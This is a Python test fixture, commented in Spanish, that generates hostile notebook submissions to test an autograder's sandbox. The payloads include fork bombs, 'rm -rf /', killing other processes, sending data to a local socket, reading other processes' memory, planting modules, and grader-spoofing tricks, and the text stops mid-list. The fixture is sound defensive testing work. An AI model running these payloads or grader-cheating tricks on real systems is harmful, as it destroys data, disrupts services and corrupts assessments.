"""Entregas hostiles, rotas e inocentes: cuadernos de verdad, cada uno con la nota que debe tener.

`write(folder, port)` las escribe; también sirve suelto: `python tests/hostile/entregas.py CARPETA`.
El punto de partida es el cuaderno resuelto del curso, al que cada caso cambia una respuesta o añade
una celda. Los nombres empiezan por un número: entre las hostiles hay inocentes.
"""

from __future__ import annotations

import json
import os
import re
import sys
import textwrap
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path

import jupytext
import nbformat

from coursekit.exercises.checking import PUBLIC_SEED
from coursekit.exercises.sets import load_set

ROOT = Path(__file__).parents[2]
SET = "coocurrencia-ppmi"
POINTS = {
    "pmi_a_mano": 1.5,
    "contar": 2,
    "ppmi": 2,
    "asociaciones": 1.5,
    "ventanas": 1,
    "detective": 2,
}
NAMES = {
    "pmi_a_mano": "pmi_values",
    "contar": "count_pairs",
    "ppmi": "ppmi",
    "asociaciones": "strongest",
    "ventanas": "new_pairs",
    "detective": "smoothed_ppmi",
}
# Cuyas soluciones llaman a la de otro ejercicio: si aquel falla, fallan.
DEPENDENTS = {"contar": "ventanas"}
FULL = 10.0
ANY = ""  # cualquier estado vale: depende de la protección


@cache
def solution() -> dict[str, str]:
    """De cada ejercicio, la celda resuelta; con la clave `""`, las importaciones."""
    notebook = jupytext.read(ROOT / "solutions" / f"{SET}.md")
    cells = [cell.source for cell in notebook.cells if cell.cell_type == "code"]
    answers = {"": cells[0]}
    for id, name in NAMES.items():
        defining = rf"^(def {name}\(|{name} = )"
        answers[id] = next(cell for cell in cells if re.search(defining, cell, re.MULTILINE))
    return answers


@dataclass(frozen=True)
class Case:
    """Una entrega y lo que debe pasar con ella.

    Attributes:
        name: nombre corto.
        content: bytes del archivo, o lo que hay que hacer para ponerlo en la carpeta.
        state: estado esperado de la entrega.
        lost: ejercicios que pierde, con su estado (`ANY` si hay más de uno posible).
        says: lo que debe leerse en el motivo o en algún hallazgo.
    """

    name: str
    content: object
    state: str = "ok"
    lost: dict[str, str] = field(default_factory=dict)
    says: str = ""

    @property
    def points(self) -> float:
        lost = set(self.lost) | {DEPENDENTS[id] for id in self.lost if id in DEPENDENTS}
        return FULL - sum(POINTS[id] for id in lost)


def notebook(cells: list[str], **metadata) -> bytes:
    """Un cuaderno de la versión actual con esas celdas de código."""
    made = nbformat.v4.new_notebook(
        cells=[nbformat.v4.new_code_cell(textwrap.dedent(cell).strip("\n")) for cell in cells],
        metadata={"kernelspec": {"name": "python3", "display_name": "Python 3"}, **metadata},
    )
    for number, cell in enumerate(made.cells):
        cell.id = f"celda-{number}"
    return nbformat.writes(made).encode()


def answers(**changed: str) -> list[str]:
    """Las celdas del cuaderno resuelto, con las respuestas cambiadas que se den."""
    return [textwrap.dedent(source) for source in (solution() | changed).values()]


def with_cell(code: str, first: bool = False) -> bytes:
    """Todo resuelto y una celda más, al final o al principio."""
    code = textwrap.dedent(code)
    cells = answers()
    return notebook([cells[0], code, *cells[1:]] if first else [*cells, code])


def with_answer(code: str, exercise: str = "contar", before: str = "") -> bytes:
    """Todo resuelto, menos un ejercicio."""
    cells = answers(**{exercise: code})
    return notebook([cells[0], before, *cells[1:]] if before else cells)


def cell(name, code, state="ok", lost=None, first=False, **more) -> Case:
    return Case(name, with_cell(code, first), state, lost or {}, **more)


def answer(
    name, code, state="ok", outcome="incorrecto", exercise="contar", before="", **more
) -> Case:
    return Case(name, with_answer(code, exercise, before), state, {exercise: outcome}, **more)


# Lo que tendría quien encontrase la solución: si la nota sube, es que encontró lo que no debía.
HELPED = (
    solution()["contar"].replace("def count_pairs", "def good")
    + "\nLIBRARIES = 'usr lib lib64 proc sys site-packages lib-dynload python3.10 python3.11 python3.12 python3.13'.split()"
)
TIMEOUT, CRASH, UNREADABLE = "tiempo agotado", "caída", "ilegible"


def loops() -> list[Case]:
    return [
        cell("bucle_en_celda", "while True: pass", TIMEOUT),
        cell("bucle_al_principio", "while True: pass", TIMEOUT, first=True),
        cell("duerme", "import time\ntime.sleep(10**6)", TIMEOUT),
        cell("espera_senal", "import signal\nsignal.pause()", TIMEOUT),
        cell("salida_sin_fin", "while True: print('x' * 10**6)", TIMEOUT),
        cell(
            "traga_interrupciones",
            """
            while True:
                try:
                    while True: pass
                except BaseException: pass
            """,
            TIMEOUT,
        ),
        cell("bucle_en_c", "sum(iter(int, 1))", TIMEOUT),
        cell("regex_exponencial", "import re\nre.match('(a+)+$', 'a' * 50 + 'b')", TIMEOUT),
        answer(
            "bucle_en_funcion",
            "def count_pairs(sentences, window):\n    while True: pass",
            TIMEOUT,
            TIMEOUT,
            says="no termina en",
        ),
        answer(
            "duerme_en_funcion",
            "import time\ndef count_pairs(*a): time.sleep(10**6)",
            TIMEOUT,
            TIMEOUT,
        ),
        answer(
            "generador_sin_fin",
            "import itertools\ndef count_pairs(*a): return list(itertools.count())",
            ANY,
            ANY,
        ),
        cell(
            "clase_con_bucle",
            "class A:\n    while True: pass",
            TIMEOUT,
            dict.fromkeys(POINTS, TIMEOUT),
        ),
        cell(
            "bucle_en_decorador",
            "def d(f):\n    while True: pass\n@d\ndef f(): pass",
            TIMEOUT,
            dict.fromkeys(POINTS, TIMEOUT),
        ),
    ]


def crashes() -> list[Case]:
    segfault = "import ctypes\nctypes.string_at(0)"
    return [
        cell("sys_exit", "import sys\nsys.exit(3)"),
        cell("sys_exit_arriba", "import sys\nsys.exit(3)", first=True),
        cell("keyboard_interrupt", "raise KeyboardInterrupt"),
        cell(
            "excepcion_rara",
            "class X(BaseException):\n    def __str__(self): raise self\nraise X()",
        ),
        cell("os_exit", "import os\nos._exit(0)", CRASH),
        cell("os_exit_arriba", "import os\nos._exit(0)", CRASH, first=True),
        cell("se_mata", "import os\nos.kill(os.getpid(), 9)", ANY),
        cell("mata_a_todos", "import os\nfor pid in (0, -1): os.kill(pid, 15)", ANY),
        cell(
            "mata_al_padre",
            "import os\nfor p in range(1, 400):\n    try:\n        p != os.getpid() and os.kill(p, 9)\n    except OSError: pass",
            ANY,
        ),
        cell("mata_al_precargado", "import os\nos.kill(os.getppid(), 9)", ANY),
        cell("aborta", "import os\nos.abort()", CRASH),
        cell("segfault", segfault, CRASH),
        cell("exec_otro_programa", "import os\nos.execv('/bin/sleep', ['sleep', '0'])", CRASH),
        cell("recursion", "def f(): f()\nf()"),
        cell("alarma", "import signal\nsignal.setitimer(signal.ITIMER_REAL, .001, .001)", ANY),
        answer(
            "sys_exit_en_funcion", "import sys\ndef count_pairs(*a): sys.exit(0)", says="SystemExit"
        ),
        answer(
            "interrupcion_en_funcion",
            "def count_pairs(*a): raise KeyboardInterrupt",
            says="KeyboardInterrupt",
        ),
        answer("os_exit_en_funcion", "import os\ndef count_pairs(*a): os._exit(0)", CRASH, CRASH),
        answer(
            "se_mata_en_funcion",
            "import os\ndef count_pairs(*a): os.kill(os.getpid(), 9)",
            CRASH,
            CRASH,
            says="SIGKILL",
        ),
        answer(
            "segfault_en_funcion",
            "import ctypes\ndef count_pairs(*a): ctypes.string_at(0)",
            CRASH,
            CRASH,
            says="SIGSEGV",
        ),
        answer(
            "recursion_en_funcion",
            "def count_pairs(*a): return count_pairs(*a)",
            says="RecursionError",
        ),
        answer(
            "recursion_sin_limite",
            "import sys\ndef count_pairs(*a):\n    sys.setrecursionlimit(10**9)\n    return [count_pairs(*a)]",
            ANY,
            ANY,
        ),
    ]


def greed() -> list[Case]:
    return [
        cell("mucha_salida", "for _ in range(300): print('x' * 10**6)"),
        cell("treinta_gigas", "x = bytearray(30 << 30)"),
        cell("numpy_treinta_gigas", "x = np.ones(30 << 27)"),
        cell("memoria_poco_a_poco", "x = []\nwhile True: x.append(bytearray(1 << 20))", ANY),
        cell("bomba_de_procesos", "import os\nwhile True: os.fork()", ANY),
        cell(
            "bomba_terca",
            "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
            TIMEOUT,
        ),
        cell(
            "bomba_de_hilos",
            """
            import threading, time
            while True: threading.Thread(target=time.sleep, args=(1000,)).start()
            """,
            ANY,
        ),
        cell(
            "llena_el_disco",
            "with open('/tmp/x', 'wb') as f:\n    while True: f.write(bytes(1 << 20))",
        ),
        cell("muchos_archivos", "for i in range(10**6): open(f'/tmp/{i}', 'w').close()"),
        cell(
            "muchos_descriptores",
            "import os\nx = [os.open('/dev/null', 0) for i in range(10**6)]",
            ANY,
        ),
        cell(
            "archivos_en_shm",
            "for i in range(200): open(f'/dev/shm/{i}', 'wb').write(bytes(1 << 20))",
        ),
        answer("devuelve_gigas", "def count_pairs(*a): return np.zeros((10000, 10000))", ANY, ANY),
        answer(
            "memoria_en_funcion",
            "def count_pairs(*a): return bytearray(30 << 30)",
            says="MemoryError",
        ),
        answer(
            "bomba_en_funcion",
            "import os\ndef count_pairs(*a):\n    while True:\n        try: os.fork()\n        except OSError: pass",
            ANY,
            ANY,
        ),
        cell("mil_celdas_lentas", "x = [i for i in range(3 * 10**6)]"),
    ]


# Donde dos entregas podrían dejarse notas.
SHARED = ("/tmp", "/var/tmp", "/dev/shm", "/run", "/mnt", ".")


def leftovers(port: int) -> list[Case]:
    connect = f"socket.create_connection((host, {port}), timeout=1).sendall(b'robado')"
    return [
        cell("proceso_de_fondo", "import subprocess\np = subprocess.Popen(['sleep', '777'])"),
        cell(
            "demonio",
            """
            import os, time
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    while True: time.sleep(777)
                os._exit(0)
            """,
        ),
        cell(
            "hilo_de_fondo",
            "import threading, time\nthreading.Thread(target=lambda: time.sleep(777)).start()",
        ),
        cell(
            "hilo_que_gasta",
            "import threading\ndef f():\n    while True: pass\nthreading.Thread(target=f).start()",
        ),
        cell(
            "hilo_que_mata",
            "import threading, os\nthreading.Timer(.05, os._exit, (0,)).start()",
            ANY,
        ),
        cell("al_salir", "import atexit, time\natexit.register(time.sleep, 777)"),
        cell(
            "red",
            f"import socket\nfor host in ('127.0.0.1', '::1', '10.0.0.1'):\n    try: {connect}\n    except OSError: pass",
        ),
        cell("red_sin_permiso", f"import socket\nhost = '127.0.0.1'\n{connect}"),
        cell(
            "red_udp",
            f"import socket\nsocket.socket(2, 2).sendto(b'robado', ('127.0.0.1', {port}))",
        ),
        cell(
            "descarga",
            f"import urllib.request\nurllib.request.urlopen('http://127.0.0.1:{port}/', timeout=1).read()",
        ),
        cell(
            "escribe_fuera",
            """
            import os
            for folder in ('/', '/etc', '/usr', '/var/tmp', '/root', '/home', '/work', '/dev'):
                try: open(os.path.join(folder, 'huella_hostil'), 'w').write('x')
                except OSError: pass
            """,
        ),
        cell("escribe_fuera_y_falla", "open('/huella_hostil', 'w').write('x')"),
        cell(
            "deja_nota",
            """
            import multiprocessing.shared_memory as shm
            for place in PLACES:
                try: open(place + '/respuestas_hostiles', 'w').write('secreto')
                except OSError: pass
            shm.SharedMemory('respuestas_hostiles', True, 10).buf[0] = 1
            """.replace("PLACES", str(SHARED)),
        ),
        answer(
            "busca_nota",
            """
            import os
            def count_pairs(sentences, window):
                if any(os.path.exists(place + '/respuestas_hostiles') for place in PLACES):
                    return good(sentences, window)
                return 'no hay nada'
            """.replace("PLACES", str(SHARED)),
            before=HELPED,
        ),
        cell("borra_todo", "import shutil\nshutil.rmtree('/', ignore_errors=True)", ANY),
        cell(
            "privilegios",
            """
            import os
            # Si algo de esto se puede, se estropea la propia nota: así lo ve la prueba.
            for call in (
                'os.setuid(0)', 'os.setgid(0)', 'os.setgroups([0])', 'os.chroot("/")', 'os.nice(-5)'
            ):
                try:
                    eval(call)
                    pmi_values = call
                except OSError: pass
            """,
        ),
        cell(
            "llamadas_prohibidas",
            """
            import ctypes
            libc = ctypes.CDLL(None)
            if libc.mount(b'/', b'/tmp', None, 4096, None) == 0: pmi_values = 'mount'
            if libc.ptrace(0, 0, 0, 0) == 0: pmi_values = 'ptrace'
            if libc.unshare(0x10000000) == 0: pmi_values = 'unshare'
            if libc.socket(1, 1, 0) >= 0: pmi_values = 'socket'
            if libc.shmget(77, 4096, 0o1666) >= 0: pmi_values = 'shmget'
            """,
        ),
    ]


REFERENCE = """
def count_pairs(sentences, window):
    from {module} import {name}
    return {call}(sentences, window)
"""


def memorised() -> dict[str, dict]:
    """Los casos públicos de un ejercicio con su respuesta, como quien los copia de `check`."""
    exercise = load_set(SET).find("contar")
    return {repr(case): exercise.reference(*case) for case in exercise.draw(PUBLIC_SEED)}


def cheats() -> list[Case]:
    lie = "def always(*a, **k): return True\n"
    return [
        answer(
            "compara_siempre_si",
            "def count_pairs(*a): return 0",
            before=lie
            + "np.allclose = np.isclose = np.array_equal = np.testing.assert_allclose = always",
        ),
        answer(
            "compara_siempre_si_ppmi",
            "def ppmi(c): return c * 0.0",
            exercise="ppmi",
            before=lie
            + "import math, operator\nnp.isclose = np.allclose = math.isclose = operator.eq = always",
        ),
        answer(
            "subclase_mentirosa",
            """
            class Liar(np.ndarray):
                def __eq__(self, other): return np.ones(self.shape, bool)
                def __array_ufunc__(self, *a, **k): return True
                def __array_function__(self, *a, **k): return True
            def ppmi(counts): return np.zeros(np.shape(counts)).view(Liar)
            """,
            exercise="ppmi",
        ),
        answer(
            "objeto_mentiroso",
            """
            class Liar:
                __class__ = dict
                def __eq__(self, other): return True
                def __iter__(self): return iter(())
                def items(self): return ()
            def count_pairs(*a): return Liar()
            """,
        ),
        answer(
            "numero_mentiroso",
            """
            class Liar(float):
                def __eq__(self, other): return True
                def __sub__(self, other): return 0.0
                __rsub__ = __sub__
            pmi_values = [Liar(9), Liar(9), Liar(9), Liar(9), Liar(9)]
            """,
            exercise="pmi_a_mano",
        ),
        answer(
            "texto_mentiroso",
            """
            class Liar(str):
                def __eq__(self, other): return True
                def __hash__(self): return 0
            def strongest(word, words, matrix, k): return [Liar('x')] * k
            """,
            exercise="asociaciones",
        ),
        answer(
            "dict_mentiroso",
            """
            class Liar(dict):
                def __missing__(self, key): return 1
                def __eq__(self, other): return True
                def __contains__(self, key): return True
            def count_pairs(*a): return Liar()
            """,
        ),
        answer(
            "mira_la_pila",
            """
            import sys, gc
            def count_pairs(*a):
                frame = sys._getframe()
                while frame:
                    for scope in (frame.f_locals, frame.f_globals):
                        for name in ('expected', 'want', 'reference', 'target', 'judge', 'exercise'):
                            if name in scope: return scope[name]
                    frame = frame.f_back
                found = [o for o in gc.get_objects() if type(o).__name__ in ('Exercise', 'Judge', 'Exam')]
                return found[0].reference(*a) if found else 0
            """,
        ),
        answer(
            "modelo_del_paquete",
            "from coursekit.embeddings import ppmi",
            exercise="ppmi",
            says="usa ppmi, de coursekit.embeddings",
        ),
        answer(
            "importa_la_referencia",
            REFERENCE.format(
                module="coursekit.exercises.sets.coocurrencia_ppmi",
                name="count_pairs",
                call="count_pairs",
            ),
        ),
        answer(
            "importa_load_set",
            REFERENCE.format(
                module="coursekit.exercises.sets",
                name="load_set",
                call="load_set('coocurrencia-ppmi').find('contar').reference",
            ),
        ),
        answer(
            "reimporta_el_paquete",
            """
            import sys, importlib
            for name in [n for n in sys.modules if n.startswith('coursekit')]: del sys.modules[name]
            def count_pairs(*a):
                return importlib.import_module('coursekit.exercises.sets').load_set('coocurrencia-ppmi').find('contar').reference(*a)
            """,
        ),
        answer(
            "busca_en_el_disco",
            """
            import os
            def count_pairs(*a):
                for folder, folders, files in os.walk('/'):
                    folders[:] = [f for f in folders if f not in LIBRARIES]
                    for name in files:
                        if name in ('cooccurrence_ppmi.py', 'coocurrencia-ppmi.md', 'lote.jsonl', 'notas.json', 'semilla.txt'):
                            return good(*a)
            """,
            before=HELPED,
        ),
        answer(
            "busca_otras_entregas",
            """
            import os
            def count_pairs(*a):
                for folder, folders, files in os.walk('/'):
                    folders[:] = [f for f in folders if f not in LIBRARIES]
                    if any(name.endswith('.ipynb') for name in files): return good(*a)
                return 0
            """,
            before=HELPED,
        ),
        answer(
            "lee_memoria_ajena",
            """
            import os, re
            def count_pairs(*a):
                for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
                    if os.getsid(int(pid)) == os.getsid(0): continue  # los de esta misma entrega
                    try:
                        open(f'/proc/{pid}/mem', 'rb').seek(0); open(f'/proc/{pid}/maps').read()
                        return good(*a)
                    except OSError: pass
                return 0
            """,
            before=HELPED,
        ),
        answer(
            "lee_el_entorno",
            """
            import os, sys
            def count_pairs(*a):
                secret = [v for v in list(os.environ.values()) + sys.argv if 'semilla' in v.lower()]
                return good(*a) if secret else 0
            """,
            before=HELPED,
        ),
        cell(
            "falsifica_registros",
            """
            import os, json, struct
            text = json.dumps({'cells': []}).encode()
            good = json.dumps({'state': 'correcto', 'points': 300, 'id': 'contar'}).encode()
            for fd in range(3, 64):
                for message in (text, good, good):
                    try: os.write(fd, struct.pack('>I', len(message)) + message)
                    except OSError: pass
            """,
            ANY,
            dict.fromkeys(POINTS, ANY),
        ),
        answer(
            "falsifica_veredicto", "def count_pairs(*a): return {'state': 'correcto', 'points': 10}"
        ),
        cell(
            "basura_en_el_cable",
            """
            import os
            for fd in range(3, 64):
                try: os.write(fd, b'\\xff' * 100)
                except OSError: pass
            """,
            ANY,
        ),
        cell(
            "promete_y_no_cumple",
            """
            import os
            for fd in range(3, 64):
                try: os.write(fd, b'\\x00\\x7f\\xff\\xff')
                except OSError: pass
            """,
            ANY,
        ),
        cell("cierra_todo", "import os\nos.closerange(3, 1000)", CRASH),
        answer(
            "pisa_el_calificador",
            "def count_pairs(*a): return 0",
            before="""
            import sys, types, json
            for name in ('judging', 'values', 'sets', 'notebook', 'batch'):
                sys.modules['coursekit.exercises.' + name] = types.ModuleType(name)
            import coursekit.exercises
            coursekit.exercises.judge = coursekit.exercises.check = lambda *a, **k: 'correcto'
            try:
                open(coursekit.__file__, 'a').write('# pisado')
            except OSError: pass
            """,
        ),
        cell(
            "parchea_al_recluso",
            """
            import sys
            for module in list(sys.modules.values()):
                for name in ('to_plain', 'first_difference', 'judge'):
                    if hasattr(module, name): setattr(module, name, lambda *a, **k: None)
            """,
            ANY,
            dict.fromkeys(POINTS, ANY),
        ),
        answer(
            "pickle",
            "class P:\n    def __reduce__(self): return (eval, ('1/0',))\ndef count_pairs(*a): return P()",
            says="un objeto de tipo P",
        ),
        answer(
            "memoriza_los_publicos",
            f"""
            PUBLIC = {memorised()!r}
            def count_pairs(*arguments): return PUBLIC.get(repr(arguments))
            """,
        ),
        answer(
            "acierta_solo_la_primera",
            """
            calls = 0
            def count_pairs(sentences, window):
                global calls
                calls += 1
                return good(sentences, window) if calls == 1 else {}
            """,
            before=HELPED,
        ),
        cell("salidas_falsas", "print('✔ contar: correcto (10 puntos).')"),
    ]


def strange_values() -> list[Case]:
    def returns(name, expression, **more):
        return answer(name, f"def count_pairs(*a): return {expression}", **more)

    return [
        returns("entero_enorme", "10 ** 5000"),
        returns("entero_de_mil_cifras", "10 ** 1000"),
        returns("infinitos", "float('inf')"),
        returns("nan", "np.full((3, 3), np.nan)"),
        returns("lista_profunda", "eval('[' * 90 + ']' * 90)"),
        answer(
            "lista_muy_profunda",
            "def count_pairs(*a):\n    x = []\n    for _ in range(100000): x = [x]\n    return x",
            ANY,
            ANY,
        ),
        answer("lista_circular", "def count_pairs(*a):\n    x = []\n    x.append(x)\n    return x"),
        answer("dict_circular", "def count_pairs(*a):\n    x = {}\n    x[1] = x\n    return x"),
        returns("generador", "(i for i in range(3))"),
        returns("funcion", "count_pairs"),
        returns("bytes", "b'abc'"),
        returns("complejo", "1j"),
        returns("fecha", "np.datetime64('2020-01-01')"),
        returns("arreglo_de_objetos", "np.array([object()])"),
        returns("arreglo_estructurado", "np.zeros(2, 'i4,f8')"),
        returns("sustitutos", "'\\ud800' * 10"),
        returns("nulos_y_escapes", "'\\x00\\x1b[2J\\x1b]0;hola\\x07'"),
        returns("html", "'<script>alert(1)</script><img src=x onerror=alert(1)>'"),
        answer(
            "html_en_error",
            "def count_pairs(*a): raise ValueError('<script>alert(1)</script>\\x1b[31m')",
            says="ValueError",
        ),
        answer("error_gigante", "def count_pairs(*a): raise ValueError('x' * 10**7)"),
        answer(
            "error_sin_texto",
            "class E(Exception):\n    def __str__(self): raise E()\ndef count_pairs(*a): raise E()",
        ),
        answer(
            "claves_que_chocan",
            "def count_pairs(*a): return {i * (2**61 - 1): 0 for i in range(60000)}",
            ANY,
            ANY,
        ),
        answer(
            "cambia_argumentos",
            "def ppmi(counts):\n    counts[:] = 0\n    return counts",
            exercise="ppmi",
        ),
        answer("tipo_equivocado", "count_pairs = 'hola'"),
        answer("devuelve_none", "def count_pairs(*a): pass", says="return"),
        answer("sin_argumentos", "def count_pairs(): return {}", says="TypeError"),
        answer("clase_en_vez_de_funcion", "class count_pairs:\n    def __init__(self, *a): pass"),
        answer("corrutina", "async def count_pairs(*a): return {}"),
    ]


def sabotage() -> list[Case]:
    """Cambios en el propio intérprete; la nota no puede subir, y lo demás debe seguir en pie."""
    return [
        cell("sin_stdout", "import sys\nsys.stdout = sys.stderr = sys.stdin = None"),
        cell("sin_descriptores", "import os\nfor fd in (0, 1, 2): os.close(fd)"),
        cell("recursion_minima", "import sys\nsys.setrecursionlimit(60)", ANY),
        cell("traza", "import sys\nsys.settrace(lambda *a: None); sys.setprofile(lambda *a: None)"),
        cell("sin_recolector", "import gc\ngc.disable()"),
        cell("otra_carpeta", "import os\nos.makedirs('a/b'); os.chdir('a/b'); os.rmdir('../b')"),
        cell("avisos_como_errores", "import warnings\nwarnings.simplefilter('error')"),
        cell("entrada", "nombre = input('¿Cómo te llamas? ')"),
        cell("entrada_arriba", "nombre = input('¿Cómo te llamas? ')", first=True),
        cell("depurador", "breakpoint()"),
        cell(
            "ignora_senales",
            "import signal\nfor s in range(1, 32):\n    try: signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError): pass",
            ANY,
        ),
        cell("limites", "import resource\nresource.setrlimit(resource.RLIMIT_AS, (1, 1))", ANY),
    ]


def ordinary() -> list[Case]:
    """Lo que traen los cuadernos honrados, y lo que se rompe sin mala intención."""
    colab = {"colab": {"provenance": [], "authorship_tag": "ABX9"}, "accelerator": "GPU"}
    magics = answers()
    magics[0] = (
        "%matplotlib inline\n!pip install -q numpy \\\n   scipy\n"
        + magics[0]
        + "\nx = !ls\n?print\nprint??"
    )
    magics[1] = "%%time\n" + magics[1]
    magics[2] = "import sys\nif 'google.colab' in sys.modules:\n    %pip install nada\n" + magics[2]
    magics.insert(3, "%%bash\nrm -rf /")
    magics.insert(3, "%time y = 1\n%%timeit no es el principio")
    strings = answers()
    strings[0] += '\ntexto = """\n% no es una orden\n! tampoco\n"""\nassert "tampoco" in texto'
    drive = "from google.colab import drive\ndrive.mount('/content/drive')\n"
    named = answers(contar=solution()["contar"].replace("count_pairs", "contar_pares"))
    deleted = [source for id, source in solution().items() if id != "ppmi"]
    broken = solution()["contar"] + "\n    )"
    return [
        Case("colab", notebook(answers(), **colab)),
        Case("ordenes", notebook(magics)),
        Case("ordenes_en_texto", notebook(strings)),
        Case("monta_drive", with_answer(drive + solution()["contar"])),
        Case(
            "nombre_cambiado",
            notebook(named),
            "ok",
            {"contar": "falta"},
            says="no define «count_pairs»",
        ),
        Case("respuesta_borrada", notebook(deleted), "ok", {"ppmi": "falta"}),
        Case(
            "error_de_sintaxis", with_answer(broken), "ok", {"contar": "falta"}, says="SyntaxError"
        ),
        Case(
            "dos_definiciones",
            notebook([*answers(), "def ppmi(counts): return 0"]),
            "ok",
            {"ppmi": "incorrecto"},
        ),
        Case(
            "arregla_despues",
            notebook([answers()[0], "def ppmi(counts): return 0", *answers()[1:]]),
        ),
        Case(
            "comprueba_todo",
            notebook([*answers(), *(f'check("{id}", {NAMES[id]})\nhint("{id}")' for id in NAMES)]),
        ),
        Case("import_futuro", notebook(["from __future__ import annotations", *answers()])),
        Case(
            "multiproceso",
            with_cell(
                "import multiprocessing as mp\nwith mp.get_context('fork').Pool(2) as p: x = p.map(abs, [1, -2])"
            ),
        ),
        Case(
            "dataclass",
            with_cell(
                "from dataclasses import dataclass\n@dataclass\nclass A:\n    x: int = 1\nimport pickle\npickle.loads(pickle.dumps(A()))"
            ),
        ),
        Case("esqueleto", skeleton(), "sin intentar", dict.fromkeys(POINTS, "sin intentar")),
    ]


def honest() -> list[Case]:
    """Cuadernos de buena fe con algo que aquí no puede ser, o que fuera de un cuaderno no es."""
    solved = solution()
    colab = "from google.colab import drive\ndrive.mount('/content/drive')\nEPS = float('1e-9')\n"
    used = solved["contar"].replace("def count_pairs", "EPS2 = EPS * 2\ndef count_pairs")
    pool = """
        import multiprocessing as mp
        {}
        counted = count_pairs
        def count_pairs(*arguments):
            with mp.get_context('fork').Pool(2) as pool:
                pool.map(abs, [1, -2, 3])
            return counted(*arguments)
        """
    bar = """
        from tqdm.notebook import tqdm
        {}
        measured = count_pairs
        def count_pairs(*arguments):
            return [measured(*arguments) for _ in tqdm(range(1))][0]
        """

    def around(code: str) -> bytes:
        return with_answer(textwrap.dedent(code).format(solved["contar"]))

    written = [*answers()]
    place = list(solved).index("contar")
    written[place : place + 1] = [
        f"%%writefile pares.py\nimport numpy as np\n{solved['']}\n{solved['contar']}",
        "from pares import count_pairs",
    ]
    waits = [*answers(), "import asyncio\nawait asyncio.sleep(0.01)\nready = True\nassert ready"]
    return [
        Case("honrado colab", with_answer(colab + used)),
        Case("honrado varios procesos", around(pool)),
        Case("honrado barra de progreso", around(bar)),
        Case("honrado writefile", notebook(written)),
        Case("honrado await", notebook(waits)),
        Case("honrado entrada", with_answer("who = input('¿Quién eres? ')\n" + solved["contar"])),
        Case("honrado display", with_answer(
            "from IPython.display import display, clear_output\nclear_output()\n" + solved["contar"])),
        Case("honrado gasta", with_cell("x = sum(i * i for i in range(9 * 10**6))")),
    ]  # fmt: skip


def against_others() -> list[Case]:
    """Los que van contra quien viene después, contra el proceso precargado o contra el juez."""
    planted = "modulo_plantado"
    return [
        cell(
            "limita_a_los_demas",
            """
            import ctypes, os, resource
            libc = ctypes.CDLL(None)
            me = os.getpid()
            for pid in (os.getppid(), *range(1, 400), *range(me - 80, me + 5)):
                if pid in (0, me): continue
                for what in (resource.RLIMIT_NOFILE, resource.RLIMIT_CPU, resource.RLIMIT_AS):
                    try: resource.prlimit(pid, what, (1, 1))
                    except OSError: pass
                    libc.syscall(302, (7 << 32) | pid, what, (ctypes.c_ulong * 2)(1, 1), None)
            """,
            ANY,
        ),
        cell(
            "senales_con_truco",
            """
            import ctypes, os
            libc = ctypes.CDLL(None)
            for number in (62, 200):
                for pid in (-1, os.getppid()):
                    libc.syscall(number, ctypes.c_long((5 << 32) | (pid & 0xffffffff)), 9)
            """,
            ANY,
        ),
        cell(
            "prioridades",
            """
            import os
            for which in (os.PRIO_USER, os.PRIO_PGRP):
                try: os.setpriority(which, 0, 19)
                except OSError: pass
            for pid in range(0, 40):
                try: os.sched_setaffinity(pid, {0}); os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
                except OSError: pass
            """,
            ANY,
        ),
        cell(
            "estropea_tuberias",
            """
            import fcntl, os
            for fd in range(3, 64):
                for command, value in ((fcntl.F_SETFL, os.O_NONBLOCK), (1031, 4096), (fcntl.F_SETOWN, 1)):
                    try: fcntl.fcntl(fd, command, value)
                    except OSError: pass
            """,
            ANY,
        ),
        cell(
            "espacios_de_nombres",
            """
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            me = os.getpid()
            for flag in (0x10000000, 0x20000, 0x20000000, 0x40000000):
                if libc.syscall(56, flag | 17, 0, 0, 0, 0) >= 0:
                    if os.getpid() != me: os._exit(0)
                    pmi_values = 'clone'
                block = (ctypes.c_uint64 * 11)(flag | 0x10000000, 0, 0, 0, 17)
                if libc.syscall(435, block, 88) >= 0:
                    if os.getpid() != me: os._exit(0)
                    pmi_values = 'clone3'
            """,
        ),
        cell(
            "deja_notas_y_modulos",
            f"""
            import os, sys
            LIBRARIES = ('lib', 'lib64', 'share', 'proc', 'sys')
            places = []
            for folder, folders, _ in os.walk('/'):
                folders[:] = [f for f in folders if f not in LIBRARIES]
                if os.access(folder, os.W_OK): places.append(folder)
            for place in [*places, *sys.path, os.getcwd()]:
                for name in ('{planted}.py', 'numpy.py', 'sitecustomize.py', 'respuestas_hostiles'):
                    try: open(os.path.join(place, name), 'w').write('hola = 1')
                    except OSError: pass
            """,
            ANY,
        ),
        answer(
            "busca_notas_y_modulos",
            f"""
            import os
            def count_pairs(*a):
                try:
                    import {planted}
                    return good(*a)
                except ImportError: pass
                for folder, folders, files in os.walk('/'):
                    folders[:] = [f for f in folders if f not in LIBRARIES]
                    if 'respuestas_hostiles' in files or '{planted}.py' in files: return good(*a)
                return 'no hay nada'
            """,
            before=HELPED,
        ),
        cell("cuarenta_hijos", """
            import os
            for _ in range(40):
                try:
                    if os.fork() == 0:
                        while True: pass
                except OSError: pass
            while True: pass
            """, TIMEOUT, first=True),
        cell(
            "memoria_entre_varios",
            """
            import os, time
            for _ in range(12):
                try:
                    if os.fork() == 0:
                        x = bytes(b'x') * (900 << 20)
                        time.sleep(60)
                except OSError: pass
            time.sleep(60)
            """,
            ANY,
        ),
        cell(
            "memoria_sin_dueno",
            """
            import os
            held = []
            for number in range(60):
                try:
                    fd = os.memfd_create('x')
                    held.append(fd)
                    for _ in range(30): os.write(fd, bytes(1 << 20))
                    pmi_values = 'memfd'
                except OSError: pass
            """,
        ),
        cell(
            "disco_sin_nombre",
            """
            import os, tempfile
            held = []
            for number in range(100):
                try:
                    file = tempfile.TemporaryFile()
                    held.append(file)
                    file.write(bytes(31 << 20)); file.flush()
                except OSError: pass
            """,
            ANY,
        ),
        cell(
            "arbol_hondo",
            """
            import os
            for number in range(3000):
                try:
                    os.mkdir('d'); os.chdir('d')
                    open('f', 'w').close()
                except OSError: break
            os.chmod('.', 0)
            """,
            ANY,
        ),
        cell(
